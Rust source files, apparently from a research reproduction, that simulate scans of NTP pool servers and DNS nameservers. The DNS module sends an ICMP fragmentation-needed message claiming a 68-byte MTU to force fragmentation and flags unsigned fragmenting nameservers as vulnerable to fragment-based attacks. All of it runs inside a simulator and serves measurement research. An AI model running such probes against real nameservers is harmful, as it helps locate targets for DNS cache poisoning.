        }
        if v.config_open {
            result.config_open += 1;
        }
    }
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::population::pool_servers;

    #[test]
    fn limiting_server_detected_by_halves_rule() {
        let verdict = scan_server(
            &PoolServerSpec { rate_limits: true, sends_kod: false, open_config: false },
            1,
        );
        assert!(verdict.rate_limiting(), "{verdict:?}");
        assert!(!verdict.kod_seen);
    }

    #[test]
    fn kod_server_detected() {
        let verdict = scan_server(
            &PoolServerSpec { rate_limits: true, sends_kod: true, open_config: false },
            2,
        );
        assert!(verdict.kod_seen, "{verdict:?}");
    }

    #[test]
    fn open_server_answers_everything() {
        let verdict = scan_server(
            &PoolServerSpec { rate_limits: false, sends_kod: false, open_config: false },
            3,
        );
        assert!(!verdict.rate_limiting(), "{verdict:?}");
        assert_eq!(verdict.first_half + verdict.second_half, 64);
    }

    #[test]
    fn config_interface_detected() {
        let verdict = scan_server(
            &PoolServerSpec { rate_limits: false, sends_kod: false, open_config: true },
            4,
        );
        assert!(verdict.config_open);
    }

    #[test]
    fn small_population_scan_recovers_marginals() {
        let population = pool_servers(300, 11);
        let result = run_scan(&population, 12, 4);
        assert_eq!(result.scanned, 300);
        assert!(
            (result.rate_limit_fraction() - 0.38).abs() < 0.08,
            "rate limiting {}",
            result.rate_limit_fraction()
        );
        assert!((result.kod_fraction() - 0.33).abs() < 0.08, "kod {}", result.kod_fraction());
    }
}
