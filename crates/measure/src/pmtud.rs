//! The PMTUD / fragment-size scan behind Fig. 5 and §VII-B.
//!
//! For each nameserver: send an ICMP frag-needed claiming a tiny MTU, then
//! query a large record and observe (via a raw tap) the size of the
//! fragments the server actually emits — its PMTU floor. The response also
//! reveals whether the zone is DNSSEC-signed (RRSIG present).

use std::net::Ipv4Addr;

use bytes::Bytes;
use dns::auth::{AuthServer, DNS_PORT};
use dns::dnssec::ZoneKey;
use dns::message::Message;
use dns::name::Name;
use dns::record::{RData, Record, RecordType};
use dns::zone::Zone;
use netsim::icmp::IcmpMessage;
use netsim::ipv4::Ipv4Packet;
use netsim::prelude::*;
use netsim::udp::UdpDatagram;
use rand::RngExt;
use serde::Serialize;

use crate::population::NameserverSpec;

/// Per-nameserver scan outcome.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct PmtudVerdict {
    /// Largest fragment size observed (None: response arrived whole).
    pub min_fragment_size: Option<u16>,
    /// The zone carries RRSIGs.
    pub signed: bool,
    /// A response arrived at all.
    pub answered: bool,
}

impl PmtudVerdict {
    /// "Supports fragmentation below `threshold`" — the Fig. 5 CDF measure.
    pub fn fragments_below(&self, threshold: u16) -> bool {
        self.min_fragment_size.map(|s| s <= threshold).unwrap_or(false)
    }

    /// Vulnerable per §VII-B: fragments and unsigned.
    pub fn vulnerable(&self) -> bool {
        self.min_fragment_size.is_some() && !self.signed
    }
}

/// Aggregate Fig. 5 / §VII-B result.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct PmtudScanResult {
    /// Nameservers scanned.
    pub scanned: usize,
    /// Per-threshold cumulative counts: `(threshold, count ≤ threshold)`.
    pub cdf: Vec<(u16, usize)>,
    /// Fragmenting and unsigned (vulnerable) count.
    pub vulnerable: usize,
    /// Signed count.
    pub signed: usize,
    /// Fragmenting count (any size).
    pub fragmenting: usize,
}

impl PmtudScanResult {
    /// CDF value at a threshold, over *fragmenting unsigned* nameservers
    /// (Fig. 5's population).
    pub fn cdf_at(&self, threshold: u16) -> f64 {
        let count =
            self.cdf.iter().filter(|(t, _)| *t <= threshold).map(|(_, c)| *c).max().unwrap_or(0);
        count as f64 / self.vulnerable.max(1) as f64
    }

    /// Fraction of all scanned domains that are fragment-vulnerable
    /// (paper: 7.66 %).
    pub fn vulnerable_fraction(&self) -> f64 {
        self.vulnerable as f64 / self.scanned.max(1) as f64
    }
}

/// The probing host: ICMP + query, recording raw fragment sizes.
#[derive(Debug)]
struct Probe {
    target: Ipv4Addr,
    qname: Name,
    fragment_sizes: Vec<u16>,
    signed: bool,
    answered: bool,
}

impl Host for Probe {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        // Claim a 68-byte path so the NS clamps to its configured floor.
        let stub = UdpDatagram::new(DNS_PORT, 4000, Bytes::new())
            .encode(self.target, ctx.addr())
            .expect("stub encodes");
        let embedded =
            Ipv4Packet::udp(self.target, ctx.addr(), 0, stub).encode().expect("stub packet");
        ctx.send_icmp(
            self.target,
            IcmpMessage::FragmentationNeeded { mtu: 68, original: embedded },
        );
        ctx.set_timer(SimDuration::from_millis(200), 0);
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _token: TimerToken) {
        let txid: u16 = ctx.rng().random();
        let q = Message::query(txid, self.qname.clone(), RecordType::Txt, false);
        ctx.send_udp(self.target, 4000, DNS_PORT, q.encode().expect("query encodes"));
    }

    fn on_raw_packet(&mut self, _ctx: &mut Ctx<'_>, pkt: &Ipv4Packet) -> bool {
        if pkt.src == self.target && pkt.is_fragment() && pkt.more_fragments {
            self.fragment_sizes.push(pkt.wire_len() as u16);
        }
        false
    }

    fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
        if let Ok(msg) = Message::decode(&d.payload) {
            self.answered = true;
            self.signed =
                msg.answers.iter().chain(&msg.additionals).any(|r| r.rtype() == RecordType::Rrsig);
        }
    }
}

/// Builds the scanned domain's zone: a TXT record padded to `payload` bytes
/// so the response always exceeds any candidate MTU.
fn scan_zone(origin: &Name, signed: bool, payload: usize) -> Zone {
    let mut zone = Zone::new(origin.clone());
    zone.add(Record::new(origin.clone(), 300, RData::Txt("x".repeat(payload))));
    if signed {
        zone.with_key(ZoneKey(0xF00D))
    } else {
        zone
    }
}

/// Probes one nameserver in an isolated mini-simulation.
pub fn scan_nameserver(spec: &NameserverSpec, seed: u64) -> PmtudVerdict {
    let probe_addr: Ipv4Addr = "203.0.113.7".parse().expect("static");
    let ns_addr: Ipv4Addr = "192.0.2.10".parse().expect("static");
    let origin: Name = "bigdomain.example".parse().expect("static");
    let mut sim = Simulator::with_topology(
        seed,
        Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(10))),
    );
    let profile = if spec.honours_pmtud {
        OsProfile::nameserver(spec.min_fragment_mtu)
    } else {
        OsProfile::nameserver_no_pmtud()
    };
    let zone = scan_zone(&origin, spec.signed, 1700);
    sim.add_host(
        ns_addr,
        profile,
        Box::new(AuthServer::new(vec![zone]).without_authority_sections()),
    )
    .expect("ns addr");
    sim.add_host(
        probe_addr,
        OsProfile::linux(),
        Box::new(Probe {
            target: ns_addr,
            qname: origin,
            fragment_sizes: Vec::new(),
            signed: false,
            answered: false,
        }),
    )
    .expect("probe addr");
    sim.run_for(SimDuration::from_secs(5));
    let probe = sim.host::<Probe>(probe_addr).expect("probe exists");
    PmtudVerdict {
        // The NS's floor shows as the size of its non-final fragments; a
        // floor at the interface MTU (no PMTUD honoured) is "no support".
        min_fragment_size: probe.fragment_sizes.iter().copied().max().filter(|&s| s < 1500),
        signed: probe.signed,
        answered: probe.answered,
    }
}

/// Thresholds reported in Fig. 5.
pub const CDF_THRESHOLDS: [u16; 5] = [68, 292, 548, 1276, 1492];

/// Runs the scan over a population, fanned across the shared
/// [`runner::TrialRunner`]. Per-item seeds come from [`crate::scan_seed`]
/// on the population index, so results are identical for any worker count.
pub fn run_scan(population: &[NameserverSpec], seed: u64, workers: usize) -> PmtudScanResult {
    let verdicts = runner::TrialRunner::new(workers)
        .run(population, |idx, spec| scan_nameserver(spec, crate::scan_seed(seed, idx)));
    let mut result = PmtudScanResult { scanned: population.len(), ..Default::default() };
    for v in &verdicts {
        if v.signed {
            result.signed += 1;
        }
        if v.min_fragment_size.is_some() {
            result.fragmenting += 1;
        }
        if v.vulnerable() {
            result.vulnerable += 1;
        }
    }
    result.cdf = CDF_THRESHOLDS
        .iter()
        .map(|&t| {
            let count = verdicts.iter().filter(|v| v.vulnerable() && v.fragments_below(t)).count();
            (t, count)
        })
        .collect();
    result
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::population::{domain_nameservers, pool_nameservers};

    #[test]
    fn fragmenting_ns_floor_observed() {
        let spec = NameserverSpec { honours_pmtud: true, min_fragment_mtu: 548, signed: false };
        let verdict = scan_nameserver(&spec, 1);
        assert!(verdict.answered);
        assert_eq!(verdict.min_fragment_size, Some(548), "{verdict:?}");
        assert!(verdict.vulnerable());
    }

    #[test]
    fn non_pmtud_ns_not_flagged() {
        let spec = NameserverSpec { honours_pmtud: false, min_fragment_mtu: 1500, signed: false };
        let verdict = scan_nameserver(&spec, 2);
        assert!(verdict.answered);
        // The 1700-byte response still fragments at the interface MTU, but
        // that is not PMTUD support.
        assert_eq!(verdict.min_fragment_size, None, "{verdict:?}");
        assert!(!verdict.vulnerable());
    }

    #[test]
    fn signed_zone_detected() {
        let spec = NameserverSpec { honours_pmtud: true, min_fragment_mtu: 548, signed: true };
        let verdict = scan_nameserver(&spec, 3);
        assert!(verdict.signed);
        assert!(!verdict.vulnerable());
    }

    #[test]
    fn pool_ns_scan_recovers_16_of_30() {
        let result = run_scan(&pool_nameservers(7), 8, 4);
        assert_eq!(result.scanned, 30);
        let below_548 = result.cdf.iter().find(|(t, _)| *t == 548).map(|(_, c)| *c).unwrap_or(0);
        assert_eq!(below_548, 16, "16 of 30 fragment ≤ 548 B: {result:?}");
        assert_eq!(result.signed, 0, "none of the pool NS support DNSSEC");
    }

    #[test]
    fn domain_scan_cdf_shape() {
        let population = domain_nameservers(600, 9);
        let result = run_scan(&population, 10, 4);
        assert!(
            (result.vulnerable_fraction() - 0.0766).abs() < 0.03,
            "vulnerable {}",
            result.vulnerable_fraction()
        );
        let cdf_548 = result.cdf_at(548);
        assert!((cdf_548 - 0.832).abs() < 0.08, "CDF(548) {cdf_548}");
        assert!(result.cdf_at(292) < cdf_548);
        assert!((result.cdf_at(1492) - 1.0).abs() < 1e-9);
    }
}
